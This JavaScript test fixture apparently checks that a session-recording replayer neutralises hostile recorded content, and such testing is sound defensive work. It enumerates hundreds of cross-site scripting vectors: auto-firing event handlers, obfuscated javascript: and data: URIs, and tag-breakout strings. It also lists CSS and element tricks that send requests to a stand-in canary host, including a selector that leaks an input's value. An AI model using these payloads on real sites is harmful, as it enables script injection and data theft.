/**
 * What a recording may try. Each vector is one node (with what is in it) that would run a script, or make a request,
 * if a browser took it as it stands. `c.run` is the script that tells the canary; `c.url` an address of the canary.
 */
import { h, svg, t } from './recording.mjs';

const scripts = [];
const requests = [];
const script = (name, node) => scripts.push({ name, node });
const request = (name, node) => requests.push({ name, node });

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
const SPIN = 'animation: spin 1s; transition: color 1s';

// Scripts as elements.
script('script', (c) => h('script', {}, t(c.run)));
script('script in capitals', (c) => h('SCRIPT', {}, t(c.run)));
script('script of mixed case', (c) => h('ScRiPt', {}, t(c.run)));
script('module script', (c) => h('script', { type: 'module' }, t(c.run)));
script('script from data', (c) => h('script', { src: `data:text/javascript,${encodeURIComponent(c.run)}` }));
script('script from elsewhere', (c) => h('script', { src: c.js }));
script('script with a guessed nonce', (c) => h('script', { nonce: 'x' }, t(c.run)));
script('script of SVG', (c) => h('svg', {}, svg('script', {}, t(c.run))));
script('script of SVG with a prefix', (c) => svg('svg', {}, svg('x:script', {}, t(c.run))));
script('script of SVG by href', (c) =>
  svg('svg', {}, svg('script', { href: `data:text/javascript,${encodeURIComponent(c.run)}` })),
);
script('script of SVG by xlink:href', (c) => svg('svg', {}, svg('script', { 'xlink:href': c.js })));
script('script in a foreign object', (c) =>
  svg('svg', {}, svg('foreignObject', {}, h('script', {}, t(c.run)))),
);
script('script in MathML', (c) => h('math', {}, h('annotation-xml', {}, h('script', {}, t(c.run)))));
script('script in a template', (c) => h('template', {}, h('script', {}, t(c.run))));
script('script in a noscript', (c) => h('noscript', {}, h('script', {}, t(c.run))));
script('script in a style', (c) => h('style', {}, h('script', {}, t(c.run))));
script('speculation rules', (c) =>
  h('script', { type: 'speculationrules' }, t(`{"prefetch":[{"urls":["${c.url('x')}"]}]}`)),
);
script('import map', (c) => h('script', { type: 'importmap' }, t(`{"imports":{"x":"${c.js}"}}`)));

// Handlers that fire without anybody's doing.
script('img onerror', (c) => h('img', { src: 'x:', onerror: c.run }));
script('img onload', (c) => h('img', { src: PIXEL, onload: c.run }));
script('img ONERROR', (c) => h('img', { src: 'x:', ONERROR: c.run }));
script('img onerror as a list', (c) => h('img', { src: 'x:', onerror: [c.run] }));
script('img onloadend', (c) => h('img', { src: PIXEL, onloadend: c.run }));
script('svg onload', (c) => svg('svg', { onload: c.run }));
script('body onload', (c) => h('body', { onload: c.run, onpageshow: c.run, onfocus: c.run }));
script('input onfocus with autofocus', (c) => h('input', { autofocus: '', onfocus: c.run }));
script('contenteditable onfocusin', (c) => h('p', { tabindex: '1', autofocus: '', onfocusin: c.run }));
script('details ontoggle', (c) => h('details', { open: '', ontoggle: c.run }, h('summary')));
script('video onerror', (c) =>
  h('video', { src: 'x:', onerror: c.run, onloadstart: c.run, onemptied: c.run }),
);
script('audio onloadstart', (c) =>
  h('audio', { src: 'data:audio/wav,x', onloadstart: c.run, onerror: c.run }),
);
script('video source onerror', (c) => h('video', {}, h('source', { src: 'x:', onerror: c.run })));
script('track onerror', (c) => h('video', {}, h('track', { src: 'x:', default: '', onerror: c.run })));
script('marquee onstart', (c) => h('marquee', { onstart: c.run, onbounce: c.run }, t('x')));
script('style onload', (c) => h('style', { onload: c.run }, t('a{}')));
script('link onerror', (c) => h('link', { rel: 'stylesheet', href: 'x:', onerror: c.run, onload: c.run }));
script('object onerror', (c) => h('object', { data: 'x:', onerror: c.run }));
script('embed onload', (c) => h('embed', { src: PIXEL, onload: c.run }));
script('iframe onload', (c) => h('iframe', { onload: c.run }));
script('frameset onload', (c) =>
  h('frameset', { onload: c.run }, h('frame', { src: 'about:blank', onload: c.run })),
);
script('onanimationstart', (c) =>
  h('p', { style: SPIN, onanimationstart: c.run, onwebkitanimationstart: c.run }),
);
script('ontransitionrun', (c) => h('p', { style: SPIN, ontransitionrun: c.run, ontransitionend: c.run }));
script('svg animate onbegin', (c) =>
  svg(
    'svg',
    {},
    svg('animate', { attributeName: 'x', dur: '1s', onbegin: c.run, onend: c.run, onrepeat: c.run }),
  ),
);
script('svg image onerror', (c) => svg('svg', {}, svg('image', { href: 'x:', onerror: c.run })));
script('svg use onload', (c) => svg('svg', {}, svg('use', { href: '#x', onload: c.run })));
script('dialog onbeforetoggle', (c) =>
  h('dialog', { open: '', rr_open_mode: 'modal', onbeforetoggle: c.run }),
);
script('content visibility', (c) =>
  h('p', { style: 'content-visibility:auto', oncontentvisibilityautostatechange: c.run }, t('x')),
);
script('onscrollend and friends', (c) =>
  h('div', { onscroll: c.run, onscrollend: c.run, onscrollsnapchange: c.run }),
);
script('a made up handler', (c) => h('div', { onreelcase: c.run, 'on:load': c.run, 'on-error': c.run }));
script('custom element with is', (c) => ({
  ...h('button', { is: 'x-y', autofocus: '', onfocus: c.run }),
  isCustom: true,
}));
script('custom element', (c) => ({
  ...h('x-hostile', { onload: c.run }, h('script', {}, t(c.run))),
  isCustom: true,
}));
script('custom element with a reserved name', (c) => ({
  ...h('font-face', {}, h('img', { src: 'x:', onerror: c.run })),
  isCustom: true,
  isShadowHost: true,
}));

// Addresses that are scripts.
const js = (c) => `javascript:${encodeURIComponent(c.run)}`;
script('iframe src', (c) => h('iframe', { src: js(c) }));
script('iframe srcdoc', (c) => h('iframe', { srcdoc: `<script>parent.__ran?.(0);${c.run}</script>` }));
script('iframe SRCDOC with sandbox', (c) =>
  h('iframe', { SRCDOC: `<script>${c.run}</script>`, sandbox: 'allow-scripts' }),
);
script('iframe with data', (c) => h('iframe', { src: `data:text/html,<script>${c.run}</script>` }));
script('iframe rr_src', (c) => h('iframe', { rr_src: js(c) }));
script('frame src', (c) => h('frame', { src: js(c) }));
script('object data', (c) => h('object', { data: js(c) }));
script('object of HTML', (c) =>
  h('object', { data: `data:text/html,<script>${c.run}</script>`, type: 'text/html' }),
);
script('embed src', (c) => h('embed', { src: js(c), type: 'text/html' }));
script('embed of SVG', (c) =>
  h('embed', { src: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c.run}'/>` }),
);
script('portal', (c) => h('portal', { src: js(c) }));
script('fenced frame', (c) => h('fencedframe', { src: js(c), mode: 'opaque-ads' }));
script('base href', (c) => h('base', { href: js(c) }));
script('meta refresh', (c) => h('meta', { 'http-equiv': 'refresh', content: `0;url=${js(c)}` }));
script('meta refresh to data', (c) =>
  h('meta', { 'HTTP-EQUIV': 'Refresh', content: `0;url=data:text/html,<script>${c.run}</script>` }),
);
for (const [name, spell] of [
  ['plain', (text) => text],
  ['in capitals', (text) => text.replace('javascript', 'JaVaScRiPt')],
  ['with blanks before', (text) => ` \n\t${text}`],
  ['with a control character before', (text) => `\u0001${text}`],
  ['with a NUL', (text) => text.replace('java', 'java\u0000')],
  ['with a tab', (text) => text.replace('java', 'java\t')],
  ['with a line break before the colon', (text) => text.replace(':', '\n:')],
  ['with an entity', (text) => text.replace(':', '&colon;')],
  ['as view-source', (text) => `view-source:${text}`],
  ['as a list', (text) => [text]],
]) {
  script(`link ${name}`, (c) => h('a', { href: spell(js(c)) }, t('link')));
  script(`form ${name}`, (c) =>
    h('form', { action: spell(js(c)) }, h('button', { formaction: spell(js(c)) })),
  );
}
script('vbscript', (c) => h('a', { href: `vbscript:${c.run}`, target: '_top' }));
script('link to data', (c) => h('a', { href: `data:text/html,<script>${c.run}</script>`, target: '_top' }));
script('link to a blob', (c) => h('a', { href: 'blob:http://site.test/1', download: c.name }));
script('area', (c) => h('map', { name: 'm' }, h('area', { href: js(c), shape: 'default' })));
script('link of SVG', (c) => svg('svg', {}, svg('a', { 'xlink:href': js(c) }, svg('text', {}, t('x')))));
script('link of MathML', (c) => h('math', { href: js(c) }, h('mtext', { 'xlink:href': js(c) }, t('x'))));
script('animated link', (c) =>
  svg(
    'svg',
    {},
    svg('a', {}, svg('animate', { attributeName: 'href', values: js(c), begin: '0s', fill: 'freeze' })),
  ),
);
script('link set to a script with a tab in it', (c) =>
  svg(
    'svg',
    {},
    svg('a', {}, svg('set', { attributeName: 'xlink:href', to: js(c).replace('java', 'java\t') })),
  ),
);
script('handler set by an animation', (c) =>
  svg('svg', {}, svg('set', { attributeName: 'onload', to: c.run })),
);
script('use of a document with a script', (c) =>
  svg(
    'svg',
    {},
    svg('use', {
      href: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${c.run}'/>#x`,
    }),
  ),
);
script('img of SVG with a script', (c) =>
  h('img', { src: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c.run}'/>` }),
);
script('command and popover', (c) =>
  h('button', { command: 'show-modal', commandfor: 'x', popovertarget: 'x', onclick: c.run, accesskey: 'x' }),
);

// What would be a script if somebody made HTML text of it and read that again.
const bad = (c) => `<img src=x: onerror='${c.run}'>`;
for (const tag of [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'template',
  'select',
  'option',
  'math',
  'mtext',
  'listing',
])
  script(`text that ends ${tag}`, (c) => h(tag, {}, t(`</${tag}>${bad(c)}`)));
script('value that ends a textarea', (c) => h('textarea', { value: `</textarea>${bad(c)}` }));
script('style that ends itself', (c) => h('style', { _cssText: `a{}</style>${bad(c)}` }));
script('link whose CSS ends itself', (c) =>
  h('link', { rel: 'stylesheet', _cssText: `a{}</style>${bad(c)}` }),
);
script('comment that ends itself', (c) => ({ type: 5, textContent: `-->${bad(c)}<!--` }));
script('CDATA that ends itself', (c) => ({ type: 4, textContent: `]]>${bad(c)}` }));
script('doctype with a tag in it', (c) => ({
  type: 1,
  name: 'html',
  publicId: `">${bad(c)}`,
  systemId: `'>${bad(c)}`,
}));
script('attribute name with a tag in it', (c) => h('p', { [`x>${bad(c)}`]: '', '"onload': c.run }));
script('attribute value with a tag in it', (c) =>
  h('p', { title: `">${bad(c)}`, alt: `--></title>${bad(c)}` }),
);
script('element name with a tag in it', (c) => h(`img src=x: onerror=${c.run}`, {}, t('kept')));
script('style in SVG with a tag in it', (c) =>
  svg('svg', {}, svg('style', {}, t(`<!--</style>${bad(c)}-->`))),
);
script('style object with a script', (c) =>
  h('p', { style: { 'x:expression': c.run, behavior: `url(${c.js})`, '-moz-binding': `url(${c.js})` } }),
);
script('keys of prototypes', (c) =>
  h('p', JSON.parse(`{"__proto__":{"onload":"x"},"constructor":${JSON.stringify(c.run)},"prototype":"x"}`)),
);
script('document where none belongs', (c) =>
  h(
    'div',
    {},
    { type: 0, childNodes: [h('html', {}, h('body', { onload: c.run }, h('script', {}, t(c.run))))] },
  ),
);

// Requests by elements.
const get = (name, tag, attribute, more = {}) =>
  request(name, (c) => h(tag, { ...more, [attribute]: c.url(attribute) }));
get('img src', 'img', 'src');
get('img srcset', 'img', 'srcset');
get('img src that waits', 'img', 'src', { loading: 'lazy' });
get('img recorded from elsewhere', 'img', 'rr_dataURL', { src: PIXEL });
get('img attribution source', 'img', 'attributionsrc', { src: PIXEL });
request('img without a scheme', (c) => h('img', { src: c.url('x').replace('http:', '') }));
request('img as a list', (c) => h('img', { src: [c.url('x')] }));
request('picture', (c) => h('picture', {}, h('source', { srcset: c.url('x') }), h('img', { src: PIXEL })));
get('image', 'image', 'src');
get('input image', 'input', 'src', { type: 'image' });
get('video src', 'video', 'src', { autoplay: '', preload: 'auto' });
get('video poster', 'video', 'poster');
get('video played', 'video', 'src', { rr_mediaState: 'played' });
request('video source', (c) =>
  h('video', { preload: 'auto' }, h('source', { src: c.url('x'), type: 'video/mp4' })),
);
get('audio src', 'audio', 'src', { autoplay: '', preload: 'auto' });
request('track', (c) =>
  h(
    'video',
    { src: 'data:video/mp4,x', crossorigin: '' },
    h('track', { src: c.url('x'), default: '', kind: 'captions' }),
  ),
);
get('iframe src', 'iframe', 'src');
get('iframe eager', 'iframe', 'src', { loading: 'eager', credentialless: '' });
request('iframe srcdoc', (c) => h('iframe', { srcdoc: `<img src="${c.url('x')}">` }));
get('iframe recorded address', 'iframe', 'rr_src');
get('frame src', 'frame', 'src');
get('object data', 'object', 'data');
get('object classid', 'object', 'classid', { codebase: 'http://canary.test/' });
get('embed src', 'embed', 'src');
get('applet', 'applet', 'archive', { code: 'x' });
get('portal', 'portal', 'src');
get('bgsound', 'bgsound', 'src');
get('script src', 'script', 'src');
get('module script', 'script', 'src', { type: 'module' });
get('body background', 'body', 'background');
get('table background', 'table', 'background');
request('cell background', (c) => h('table', {}, h('tr', {}, h('td', { background: c.url('x') }, t('x')))));
get('html manifest', 'html', 'manifest');
get('link with ping', 'a', 'ping', { href: '#' });
get('link to the site', 'a', 'href');
get('form action', 'form', 'action');
get('quote', 'blockquote', 'cite');
get('long description', 'img', 'longdesc');
get('menu icon', 'menuitem', 'icon');
get('head profile', 'head', 'profile');
request('meta refresh', (c) => h('meta', { 'http-equiv': 'refresh', content: `0;url=${c.url('x')}` }));
request('meta policy with a report', (c) =>
  h('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${c.url('x')}` }),
);
request('meta that turns name look-ups on', (c) =>
  h(
    'div',
    {},
    h('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    h('a', { href: c.url('x') }, t('x')),
  ),
);
request('meta that opens the referrer', (c) =>
  h(
    'div',
    {},
    h('meta', { name: 'referrer', content: 'unsafe-url' }),
    h('img', { src: c.url('x'), referrerpolicy: 'unsafe-url' }),
  ),
);
request('base with a picture below it', (c) =>
  h('div', {}, h('base', { href: c.url('base/') }), h('img', { src: 'relative.png' })),
);
for (const rel of [
  'stylesheet',
  'alternate stylesheet',
  'prefetch',
  'dns-prefetch',
  'preconnect',
  'modulepreload',
  'prerender',
  'icon',
  'apple-touch-icon',
  'mask-icon',
  'manifest',
  'import',
  'search',
  'pingback',
  'next',
  'expect',
  'compression-dictionary',
  'stylesheet preconnect',
  'STYLESHEET PREFETCH',
])
  get(`link rel=${rel}`, 'link', 'href', { rel, type: '' });
for (const as of ['image', 'font', 'style', 'script', 'fetch', 'document', 'track'])
  get(`link preload of ${as}`, 'link', 'href', { rel: 'preload', as, crossorigin: '' });
request('link preload by imagesrcset', (c) =>
  h('link', { rel: 'preload', as: 'image', imagesrcset: c.url('x'), href: c.url('y') }),
);
request('link of SVG', (c) => svg('svg', {}, svg('link', { rel: 'stylesheet', href: c.url('x') })));
const draw = (name, tag, attributes, ...inner) =>
  request(name, (c) =>
    svg('svg', { width: '20', height: '20' }, svg(tag, attributes(c), ...inner.map((make) => make(c)))),
  );
const BOX = { width: '10', height: '10' };
draw('SVG image', 'image', (c) => ({ ...BOX, href: c.url('x') }));
draw('SVG image by xlink:href', 'image', (c) => ({ ...BOX, 'xlink:href': c.url('x') }));
draw('SVG use', 'use', (c) => ({ href: `${c.url('x')}#a` }));
draw('SVG use by xlink:href', 'use', (c) => ({ 'xlink:href': `${c.url('x')}#a` }));
draw('SVG fill', 'rect', (c) => ({ ...BOX, fill: `url(${c.url('x')}#a)` }));
draw('SVG filter', 'rect', (c) => ({ ...BOX, filter: `url(${c.url('x')}#a)` }));
draw('SVG mask and clip', 'rect', (c) => ({
  ...BOX,
  mask: `url(${c.url('x')}#a)`,
  'clip-path': `url(${c.url('y')}#a)`,
}));
draw('SVG marker and cursor', 'path', (c) => ({
  d: 'M0 0L9 9',
  'marker-start': `url(${c.url('x')}#a)`,
  cursor: `url(${c.url('y')}), auto`,
}));
draw('SVG gradient from elsewhere', 'linearGradient', (c) => ({ 'xlink:href': `${c.url('x')}#a` }));
draw(
  'SVG filter image',
  'filter',
  () => ({ id: 'fi' }),
  (c) => svg('feImage', { href: c.url('x') }),
);
draw(
  'SVG text path',
  'text',
  () => ({}),
  (c) => svg('textPath', { href: `${c.url('x')}#a` }, t('x')),
);
draw(
  'SVG set to a picture',
  'image',
  () => BOX,
  (c) => svg('set', { attributeName: 'href', to: c.url('x'), fill: 'freeze' }),
);
draw(
  'SVG animated to a picture',
  'image',
  () => BOX,
  (c) => svg('animate', { attributeName: 'xlink:href', values: `${c.url('x')};${c.url('x')}`, dur: '1s' }),
);
draw(
  'SVG style',
  'style',
  () => ({}),
  (c) => t(`@import "${c.url('x')}";`),
);
draw(
  'SVG foreign object',
  'foreignObject',
  () => BOX,
  (c) => h('img', { src: c.url('x') }),
);
request('SVG in a picture', (c) =>
  h('img', {
    src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${c.url('x')}"/></svg>`)}`,
  }),
);
request('MathML glyph', (c) =>
  h('math', {}, h('mglyph', { src: c.url('x') }), h('mtext', { background: c.url('y') }, t('x'))),
);
request('style sheet of data that imports', (c) =>
  h('link', { rel: 'stylesheet', href: `data:text/css,@import "${c.url('x')}"` }),
);
request('canvas picture from elsewhere', (c) => h('canvas', { rr_dataURL: c.url('x') }));

// Requests by style sheets: a rule for `.v`, or for the page.
const styles = [];
const style = (name, css) => styles.push({ name, css });
const declared = [
  ['background', (u) => `url(${u})`],
  ['background-image', (u) => `url("${u}")`],
  ['background-image', (u) => `image-set("${u}" 1x)`],
  ['background-image', (u) => `-webkit-image-set(url(${u}) 1x)`],
  ['background-image', (u) => `-webkit-cross-fade(url(${u}), url(${u}2), 50%)`],
  ['background-image', (u) => `cross-fade(url(${u}) 50%, red)`],
  ['background-image', (u) => `\\75 rl(${u})`],
  ['background-image', (u) => `u\\72l("${u}")`],
  ['background-image', (u) => `URL(${u})`],
  ['background-image', (u) => `src("${u}")`],
  ['background-image', (u) => `linear-gradient(red, blue), url( '${u}' )`],
  ['background-image', (u) => `url(${u.replace('http:', '')})`],
  ['list-style-image', (u) => `url(${u})`, 'display:list-item'],
  ['border-image', (u) => `url(${u}) 3`, 'border:3px solid'],
  ['content', (u) => `url(${u})`],
  ['cursor', (u) => `url(${u}), auto`],
  ['mask', (u) => `url(${u})`],
  ['mask-border', (u) => `url(${u}) 3`],
  ['-webkit-mask-image', (u) => `url(${u})`],
  ['-webkit-mask-box-image', (u) => `url(${u})`],
  ['-webkit-box-reflect', (u) => `below 0 url(${u})`],
  ['filter', (u) => `url(${u}#a)`],
  ['backdrop-filter', (u) => `url(${u}#a)`],
  ['clip-path', (u) => `url(${u}#a)`],
  ['shape-outside', (u) => `url(${u})`, 'float:left;width:9px;height:9px'],
  ['offset-path', (u) => `url(${u}#a)`],
  ['fill', (u) => `url(${u}#a)`],
  ['-webkit-border-image', (u) => `url(${u}) 3`, 'border:3px solid'],
  ['background', (u) => `paint(x), url(${u})`],
  ['--v', (u) => `url(${u})`, 'background:var(--v)'],
];
for (const [i, [property, value, more = '']] of declared.entries())
  style(`${property} (${i})`, (c) => `.v${c.name} { ${more}; ${property}: ${value(c.url('x'))} }`);
style('@import', (c) => `@import url(${c.url('x')});`);
style('@import of text', (c) => `@import "${c.url('x')}" screen;`);
style('@import with an escape', (c) => `@\\69mport "${c.url('x')}";`);
style('@import into a layer', (c) => `@import "${c.url('x')}" layer(a) supports(display: block);`);
style('@charset and @import', (c) => `@charset "utf-8"; @import "${c.url('x')}";`);
style(
  '@font-face',
  (c) =>
    `@font-face { font-family: f${c.name}; src: url(${c.url('x')}) } .v${c.name} { font-family: f${c.name} }`,
);
style(
  '@font-face with a range',
  (c) =>
    `@font-face { font-family: g${c.name}; src: local(x), url(${c.url('x')}) format("woff2"); unicode-range: U+0-FFFF } .v${c.name} { font-family: g${c.name} }`,
);
style('@namespace', (c) => `@namespace x url(${c.url('x')});`);
style(
  '@counter-style',
  (c) =>
    `@counter-style k { system: cyclic; symbols: url(${c.url('x')}) } .v${c.name} { display: list-item; list-style: k }`,
);
style('@media', (c) => `@media (min-width: 1px) { .v${c.name} { background: url(${c.url('x')}) } }`);
style(
  '@supports and @layer',
  (c) => `@supports (display: block) { @layer q { .v${c.name} { background: url(${c.url('x')}) } } }`,
);
style('@container and @scope', (c) => `@scope (body) { .v${c.name} { background: url(${c.url('x')}) } }`);
style('nested rule', (c) => `body { & .v${c.name} { background: url(${c.url('x')}) } }`);
style('::before', (c) => `.v${c.name}::before { content: url(${c.url('x')}) }`);
style('::first-line, ::marker', (c) => `.v${c.name}::first-line { background: url(${c.url('x')}) }`);
style(
  'value read by a selector',
  (c) =>
    `input[value^="s"] ~ .v${c.name}, .v${c.name}:not(input[value^="zz"]) { background: url(${c.url('value-begins-with-s')}) }`,
);
style(
  'colour scheme of the viewer',
  (c) =>
    `@media (prefers-color-scheme: light), (prefers-color-scheme: dark) { .v${c.name} { background: url(${c.url('x')}) } }`,
);
style(
  '@keyframes',
  (c) =>
    `@keyframes k${c.name} { to { background-image: url(${c.url('x')}) } } .v${c.name} { animation: k${c.name} 1s infinite }`,
);
style('@starting-style', (c) => `@starting-style { .v${c.name} { background: url(${c.url('x')}) } }`);
style(
  ':has and :visited',
  (c) =>
    `body:has(.v${c.name}) .v${c.name} { background: url(${c.url('x')}) } a:visited { background: url(${c.url('visited')}) }`,
);
style('unfinished', (c) => `.v${c.name} { background: url(${c.url('x')}`);

const slug = (name) =>
  name
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '')
    .slice(0, 40);
const named = (list, kind) =>
  list.map((vector, i) => ({ ...vector, kind, slug: `${kind[0]}${i}-${slug(vector.name)}` }));

/** Vectors that also break the page for a replayer that takes them as they stand, so that others would not be seen. */
export const BREAKS =
  /doctype|document-where|html-manifest|video-played|reserved|head-profile|body-onload|body-background|frameset|element-name-with|with-is|cdata/;

export const SCRIPTS = named(scripts, 'script');
export const REQUESTS = named(requests, 'request');
export const STYLES = named(styles, 'css');
